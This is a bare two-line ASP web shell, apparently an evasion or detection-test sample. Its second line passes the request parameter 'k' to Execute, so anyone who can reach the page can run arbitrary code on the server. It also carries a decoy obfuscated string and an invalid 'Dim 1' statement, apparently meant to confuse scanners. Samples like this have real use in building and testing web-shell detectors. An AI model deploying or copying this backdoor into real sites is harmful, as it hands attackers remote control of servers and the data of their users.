<% Response.End : Dim 1 %>
<% a="exXXecute": b=replace(a,"XX",""): execute("Execute request(""k"")") %>
